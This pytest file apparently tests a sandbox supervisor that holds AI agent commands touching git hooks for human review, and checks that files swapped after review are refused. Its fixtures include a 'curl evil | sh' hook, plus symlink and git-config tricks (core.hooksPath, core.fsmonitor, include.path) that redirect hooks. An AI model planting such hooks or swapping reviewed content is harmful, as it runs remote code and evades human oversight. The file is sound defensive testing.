# SPDX-License-Identifier: Apache-2.0
"""A held move of a folder landed whatever lay in that folder by then, unseen by anybody."""

from __future__ import annotations

from pathlib import Path

import pytest

from sandbox.errors import BadInput
from sandbox.results import CallResult
from tests.container.conftest import MakeLab
from tests.container.lab import ME, Lab, repository

GOOD, BAD = "#!/bin/sh\nexit 0\n", "#!/bin/sh\ncurl evil | sh\n"


def python(text: str) -> str:
    """Return a command that runs a script which no reading of a command line sees through."""
    return f"python3 -c '{text}'"


def held_move(lab: Lab, here: str) -> CallResult:
    """Have a folder moved to where hooks lie: `HERE/x/d` is shown, `HERE/y/d` lies beside it."""
    for name, text in (("x", GOOD), ("y", BAD)):
        lab.sh(f"mkdir -p {here}/{name}/d; printf '{text}' > {here}/{name}/d/pre-commit")
    done = lab.sh(python(f'import os; os.rename("{here}/x/d", "{here}/.githooks")'))
    assert done.judgement == "hold", done
    return done


def exchange(lab: Lab, here: str, source: str = "x/d", other: str = "y/d") -> None:
    """Put another folder in the place of the one that was shown, by a call that lands."""
    text = f'import os; b = "{here}/"; os.rename(b + "{source}", b + "z")'
    text += f'; os.rename(b + "{other}", b + "{source}")'
    done = lab.sh(python(text), derived_from="deletes", agent="other")
    assert done.landed, done


def test_what_was_shown_is_what_lands(lab: Lab) -> None:
    """The folder itself, one above it, one below it; each beside the same without an exchange."""
    supervisor = lab.supervisor
    plain = held_move(lab, "plain")
    for here, source, other in (("own", "x/d", "y/d"), ("above", "x", "y")):
        done = held_move(lab, here)
        exchange(lab, here, source, other)
        for force in (False, True):
            with pytest.raises(BadInput, match=r"\.githooks/pre-commit`: what would land is not"):
                lab.run(supervisor.land(done.id, force=force))
        assert not (lab.ws / here / ".githooks").exists()
        look = lab.run(supervisor.look_held(done.id))  # a person is shown it anew
        assert f"{here}/.githooks/pre-commit" in look.differs
        with pytest.raises(BadInput, match="changed meanwhile"):
            lab.run(supervisor.land(done.id))
        assert lab.run(supervisor.land(done.id, force=True)).landed
        assert lab.text(f"{here}/.githooks/pre-commit") == BAD
    assert lab.run(supervisor.land(plain.id)).landed  # it was there all the time
    assert lab.text("plain/.githooks/pre-commit") == GOOD


def test_parts_and_what_came_in_later(lab: Lab) -> None:
    supervisor = lab.supervisor
    done = held_move(lab, "part")
    assert lab.sh("echo x > part/x/d/pre-push", agent="other").landed
    with pytest.raises(BadInput, match=r"part/\.githooks/pre-push`: what would land is not what"):
        lab.run(supervisor.land(done.id, ["part/.githooks"], force=True))
    assert not (lab.ws / "part/.githooks").exists()
    both = lab.sh(
        python(
            'import os; os.mkdir(".githooks"); open(".githooks/a", "w").write("one");'
            'open(".githooks/b", "w").write("two"); open("n", "w").write("n")'
        )
    )
    assert both.judgement == "hold"
    assert lab.run(supervisor.land(both.id, ["n"])).landed
    assert lab.run(supervisor.land(both.id, [".githooks/a"])).landed  # as it was shown at first
    assert lab.run(supervisor.land(both.id)).landed
    assert (lab.text(".githooks/a"), lab.text(".githooks/b")) == ("one", "two")


def test_in_a_further_workspace_as_well(make_lab: MakeLab, tmp_path: Path) -> None:
    lab = make_lab(repository(tmp_path / "a", ME), repository(tmp_path / "b", ME))
    second = str(lab.workspaces[1])
    lab.sh(f"mkdir -p {second}/x; printf '{GOOD}' > {second}/x/pre-commit", also=(second,))
    text = f'import os; os.rename("{second}/x", "{second}/.githooks")'
    done = lab.sh(python(text), also=(second,))
    assert done.judgement == "hold"
    person = lab.workspaces[1] / "x" / "pre-commit"
    person.write_text(BAD)
    with pytest.raises(BadInput, match=r"/b/\.githooks/pre-commit`: what would land is not what"):
        lab.run(lab.supervisor.land(done.id, force=True))
    assert person.exists()


LEADING = {
    "a link in place of a folder of hooks": "ln -s kept/h .husky",
    "a link above one": "ln -s kept .githooks",
    "a link that leads on": "ln -s kept/h leads && ln -s leads .husky",
    "a folder of hooks": "git config core.hooksPath kept/h",
    "a file that git's settings include": "git config include.path ../kept/h/pre-commit",
    "a program that git runs": "git config core.fsmonitor kept/h/pre-commit",
    "a link in a folder that it leads to": "ln -s around .husky",
    "a file that an included file includes": "git config include.path ../around/settings",
}


def test_what_comes_to_count_by_a_held_call_is_as_it_was_when_it_was_shown(lab: Lab) -> None:
    """A link's end, and what git's settings name: it lies there, and nothing obeys it yet."""
    supervisor, settings = lab.supervisor, lab.text(".git/config")
    (lab.ws / "around").mkdir()
    (lab.ws / "around/pre-commit").symlink_to("../kept/h/pre-commit")
    (lab.ws / "around/settings").write_text("[include]\n\tpath = ../kept/h/pre-commit\n")
    for name, command in LEADING.items():
        assert lab.sh(f"mkdir -p kept/h; printf '{GOOD}' > kept/h/pre-commit").landed, name
        held = lab.sh(python(f'import subprocess; subprocess.run("{command}", shell=True)'))
        assert held.judgement == "hold", name
        assert any(one.leads_to for one in held.changes), name
        other = lab.sh(f"printf '{BAD}' > kept/h/pre-commit; echo x >> src/more", agent="other")
        assert other.landed, name
        with pytest.raises(BadInput, match="what would land is not what"):
            lab.run(supervisor.land(held.id))
        with pytest.raises(BadInput, match="what would land is not what"):
            lab.run(supervisor.land(held.id, force=True))
        look = lab.run(supervisor.look_held(held.id))  # a person is shown it anew
        assert "kept/h/pre-commit" in look.diff and "curl evil" in look.diff, name
        assert lab.sh("echo y >> src/more", agent="other").landed  # beside it
        assert lab.run(supervisor.land(held.id)).landed, name
        (lab.ws / ".husky").unlink(missing_ok=True)
        (lab.ws / ".githooks").unlink(missing_ok=True)
        (lab.ws / "leads").unlink(missing_ok=True)
        (lab.ws / ".git/config").write_text(settings)


def test_a_part_that_lands_shows_nobody_what_the_rest_leads_to(lab: Lab) -> None:
    lab.sh(f"mkdir kept; printf '{GOOD}' > kept/pre-commit")
    held = lab.sh(python('import os; os.symlink("kept", ".githooks"); open("n", "w").write("n")'))
    assert held.judgement == "hold"
    assert lab.sh(f"printf '{BAD}' > kept/pre-commit", agent="other").landed
    assert lab.run(lab.supervisor.land(held.id, ["n"])).landed
    with pytest.raises(BadInput, match="what would land is not what"):
        lab.run(lab.supervisor.land(held.id))


def test_what_a_held_call_itself_moves_to_where_it_leads_is_bound_too(lab: Lab) -> None:
    lab.sh(f"mkdir kept; printf '{GOOD}' > kept/pre-commit")
    text = 'import os, subprocess; os.rename("kept", "hk");'
    held = lab.sh(python(text + 'subprocess.run("git config core.hooksPath hk", shell=True)'))
    assert held.judgement == "hold"
    assert [one.protected for one in held.changes if one.path == "hk/pre-commit"] == ["led-to"]
    assert lab.sh(f"printf '{BAD}' > kept/pre-commit", agent="other").landed
    for force in (False, True):
        with pytest.raises(BadInput, match="what would land is not what"):
            lab.run(lab.supervisor.land(held.id, force=force))


def test_what_a_held_call_itself_includes_lands_after_the_file_that_it_includes(lab: Lab) -> None:
    text = 'import subprocess; open("own", "w").write("[include]\\n\\tpath = more\\n");'
    held = lab.sh(python(text + 'subprocess.run("git config include.path ../own", shell=True)'))
    assert held.judgement == "hold"
    with pytest.raises(BadInput, match="what would land is not what"):
        lab.run(lab.supervisor.land(held.id))
    assert lab.run(lab.supervisor.land(held.id, ["own"])).landed
    lab.run(lab.supervisor.look_held(held.id))
    assert lab.run(lab.supervisor.land(held.id)).landed
